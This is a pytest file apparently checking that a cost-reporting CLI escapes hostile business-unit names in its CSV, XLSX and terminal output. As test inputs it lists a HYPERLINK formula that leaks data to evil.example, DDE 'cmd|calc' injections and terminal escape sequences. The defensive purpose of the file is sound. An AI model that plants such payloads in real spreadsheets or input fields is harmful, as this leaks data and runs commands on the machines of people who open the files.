"""Hostile business-unit names, end to end: CSV and formula injection, terminal escapes.

A BU name comes from whoever maps a subscription (``bu set``, ``bu import``), from the
subscription's display name in APIM (the fallback when nothing is mapped) or from the spec.
Here every name is hostile — a spreadsheet formula (``=HYPERLINK(…)``, ``+1``, ``-1``,
``@SUM(…)``), a bare carriage return before ``=`` (a new CSV row in a spreadsheet), an ANSI
escape, U+202E RIGHT-TO-LEFT OVERRIDE, a newline that would forge a table row — and goes
through the real command line (``python -m aoai_helpers``, :func:`cli_run.run_cli`) and the
library:

- the CSV statement: every record one row, no cell that starts (after blanks) with a formula
  lead, every CR/LF/quote/comma quoted;
- the XLSX workbook: no ``<f>`` element in any part of the file, every name a text cell,
  valid and unique sheet titles;
- the terminal: ``report``, ``bu list`` and ``local status`` (the key listing ``local up``
  prints too) show no control, bidi or newline character of a name, only its escape, and
  their rows stay rows.
"""

from __future__ import annotations

import json
import os
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import rfc4180
import yaml
from cli_run import run_cli
from conftest import new_v2
from secrets_registry import register_secret

from aoai_helpers.analysis.export import write_csv, write_xlsx
from aoai_helpers.analysis.report import chargeback_by_bu
from aoai_helpers.analysis.statement import month_report
from aoai_helpers.analysis.text import render_table
from aoai_helpers.core.terminal import UNSAFE, safe
from aoai_helpers.db.engine import engine_from_url

ROOT = Path(__file__).resolve().parents[2]

#: The probe's names; the first half are mapped with ``bu set``, the rest are the APIM
#: subscription names of unmapped subscriptions.
NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "\r=cmd|' /C calc'!A0",
    "ok\r=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[31mRED\x1b[0m\x1b]0;pwned\x07",
    "abc\u202edef",
    "a\nb",
    " =1+1",
]
LEADS = ("=", "+", "-", "@", "\t", "\r")
TERMINAL_BAD = re.compile("[" + re.escape("".join(sorted(UNSAFE))) + "]")


def _cli(*argv: str, cwd: Path) -> Any:
    done = run_cli(*argv, cwd=cwd, timeout=180)
    assert "Traceback" not in done.stderr, done.stderr
    return done


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A database with one call for each name, built and reported through the real CLI."""
    root = tmp_path_factory.mktemp("hostile")
    db = f"sqlite:///{root / 'h.db'}"
    assert _cli("db", "init", "--db", db, cwd=root).returncode == 0
    events = []
    for i, name in enumerate(NAMES):
        sub = f"sub-{i:02d}"
        if i < len(NAMES) // 2:
            done = _cli("bu", "set", sub, name, "--cost-centre", "=cc()", "--db", db, cwd=root)
            assert done.returncode == 0, done.stderr
            assert not TERMINAL_BAD.search(done.stdout.removesuffix("\n")), done.stdout
            events.append(new_v2(SubscriptionId=sub, SubscriptionName=f"sub {i}"))
        else:
            events.append(new_v2(SubscriptionId=sub, SubscriptionName=name))
    path = root / "e.jsonl"
    path.write_text("".join(json.dumps(e) + "\n" for e in events), "utf-8")
    done = _cli("ingest", str(path), "--db", db, cwd=root)
    assert done.returncode == 0 and "10 stored" in done.stdout, done.stdout + done.stderr
    csv_path, xlsx_path = root / "s.csv", root / "s.xlsx"
    report = _cli(
        *("report", "--month", "2026-11", "--allocate", "100", "--db", db),
        *("--csv", str(csv_path), "--xlsx", str(xlsx_path)),
        cwd=root,
    )
    assert report.returncode == 0, report.stderr
    bu_list = _cli("bu", "list", "--db", db, cwd=root)
    assert bu_list.returncode == 0, bu_list.stderr
    return {
        "root": root,
        "db": db,
        "report": report,
        "bu_list": bu_list,
        "csv": csv_path,
        "xlsx": xlsx_path,
    }


# ----------------------------------------------------------------------------- CSV


def _check_csv(text: str, header_len: int | None = None) -> list[list[str]]:
    records = rfc4180.records(text)
    assert len(records) == 1 + len(NAMES)  # one row per BU, whatever the names hold
    assert len({len(r) for r in records}) == 1
    for record in records:
        for cell in record:
            assert not cell.startswith(LEADS), cell
            assert not cell.lstrip().startswith(LEADS), cell
    bu = records[0].index("Business unit")
    shown = sorted(r[bu] for r in records[1:])
    expected = sorted(
        "'" + n if n.startswith(LEADS) or n.lstrip().startswith(LEADS) else n for n in NAMES
    )
    assert shown == expected  # the names themselves, only defused
    return records


def test_the_csv_statement_from_the_cli_is_safe(hostile: dict[str, Any]) -> None:
    records = _check_csv(hostile["csv"].read_bytes().decode("utf-8"))
    centre = records[0].index("Cost centre")
    assert {r[centre] for r in records[1:]} >= {"'=cc()"}


# ----------------------------------------------------------------------------- XLSX


def _check_xlsx(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        assert [n for n in z.namelist() if re.search(rb"<f[\s>/]", z.read(n))] == []
    wb = openpyxl.load_workbook(path)
    titles = wb.sheetnames
    assert len(titles) == 2 + len(NAMES)  # Summary, Notes, one per BU
    assert len({t.casefold() for t in titles}) == len(titles)
    for title in titles:
        assert 0 < len(title) <= 31
        assert not re.search(r"[\[\]:*?/\\\x00-\x1f\x7f-\x9f]", title), title
        assert title[0] != "'" and title[-1] != "'"
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(LEADS):
                    assert cell.data_type == "s"
    formula_titled = [t for t in titles if t.startswith(("=", "+", "-", "@"))]
    assert formula_titled  # such titles are fine as titles…
    for title in formula_titled:  # …and their first cell (the name) is text
        assert wb[title]["A1"].data_type == "s"


def test_the_workbook_from_the_cli_holds_no_formula(hostile: dict[str, Any]) -> None:
    _check_xlsx(hostile["xlsx"])


# ----------------------------------------------------------------------------- terminal


def test_report_prints_escaped_names_in_aligned_rows(hostile: dict[str, Any]) -> None:
    out = hostile["report"].stdout
    assert not TERMINAL_BAD.search(out.replace("\n", "")), out
    lines = out.split("\n")
    rule = lines[2]
    assert set(rule) <= {"-", " "}
    body = lines[3 : 3 + len(NAMES)]
    assert all(len(line) == len(rule) for line in body), body  # no row split or shifted
    assert lines[3 + len(NAMES)].startswith("Total: ")
    shown = {line.split("  ")[0].rstrip() for line in body}
    for raw in ("\\x1b[31mRED\\x1b[0m\\x1b]0;pwned\\x07", "abc\\u202edef", "a\\nb"):
        assert raw in shown
    assert "\\r=cmd|' /C calc'!A0" in shown
    allocation = next(line for line in lines if line.startswith("Allocation of 100.00"))
    assert "a\\nb " in allocation and "abc\\u202edef " in allocation


def test_bu_list_prints_escaped_names_in_aligned_rows(hostile: dict[str, Any]) -> None:
    out = hostile["bu_list"].stdout
    assert not TERMINAL_BAD.search(out.replace("\n", ""))
    lines = out.splitlines()
    assert len(lines) == len(NAMES) // 2
    for line in lines:
        assert line.startswith("sub-0") and line[40] == " " and line[41] != " "
    assert any("\\r=cmd" in line for line in lines)


def test_local_status_and_up_print_escaped_business_units(tmp_path: Path) -> None:
    """``local up`` and ``local status`` share the key listing: run ``status`` for real on
    a spec with hostile business units and the state file of a (pretend) running stack."""
    spec: dict[str, Any] = yaml.safe_load((ROOT / "examples" / "gateway.yaml").read_text("utf-8"))
    for sub, name in zip(spec["subscriptions"], NAMES[6:9], strict=True):  # ESC, RLO, LF
        sub["business_unit"] = name
        sub["display_name"] = name
    spec_path = tmp_path / "hostile.yaml"
    spec_path.write_text(yaml.safe_dump(spec, allow_unicode=False), "utf-8")
    state = tmp_path / "state"
    state.mkdir()
    keys = {
        s["id"]: f"sk-local-{i:02d}-abcdefghijklmnop-K{i:03d}"
        for i, s in enumerate(spec["subscriptions"])
    }
    for key in keys.values():
        register_secret(key)
    info = {
        "gateway_url": "http://127.0.0.1:9",
        "simulator_url": "http://127.0.0.1:9",
        "database_url": f"sqlite:///{tmp_path / 'x.db'}",
        "event_log": str(state / "events"),
        "capture": "buffered",
        "pid": os.getpid(),  # alive: this test
        "started": "2026-11-01T00:00:00Z",
        "keys": keys,
        "backend_key": "sk-backend-0123456789abcdef",
    }
    register_secret(info["backend_key"])
    (state / "stack.json").write_text(json.dumps(info), "utf-8")
    os.chmod(state / "stack.json", 0o600)
    done = _cli(
        "local", "status", "--spec", str(spec_path), "--state-dir", str(state), cwd=tmp_path
    )
    assert done.returncode == 1  # the pretend stack's ports do not answer
    out = done.stdout
    assert not TERMINAL_BAD.search(out.replace("\n", "")), out
    key_lines = [line for line in out.splitlines() if line.startswith("  key  ")]
    assert len(key_lines) == len(spec["subscriptions"])  # "a\nb" forged no line
    assert any("\\x1b[31mRED" in line for line in key_lines)
    assert any("abc\\u202edef" in line for line in key_lines)
    assert any(" a\\nb " in line for line in key_lines)
    for line, sub in zip(key_lines, spec["subscriptions"], strict=True):
        # "  key  " + id padded to 24 + " " + business unit padded to 20 + " " + masked key:
        # the padding counts the escaped text, as printed
        assert line.index("****") == 7 + 24 + 1 + max(20, len(safe(sub["business_unit"]))) + 1


# ----------------------------------------------------------------------------- library


def test_the_library_writes_the_same_safe_files(hostile: dict[str, Any], tmp_path: Path) -> None:
    engine = engine_from_url(hostile["db"])
    try:
        rep = month_report(engine, "2026-11", allocate_amount="100")
        _check_csv(write_csv(tmp_path / "lib.csv", rep).read_bytes().decode("utf-8"))
        _check_xlsx(write_xlsx(tmp_path / "lib.xlsx", rep))
        text = render_table(chargeback_by_bu(engine, "2026-11"), "2026-11")
    finally:
        engine.dispose()
    assert not TERMINAL_BAD.search(text.replace("\n", ""))
    assert len(text.split("\n")) == 3 + len(NAMES) + 1
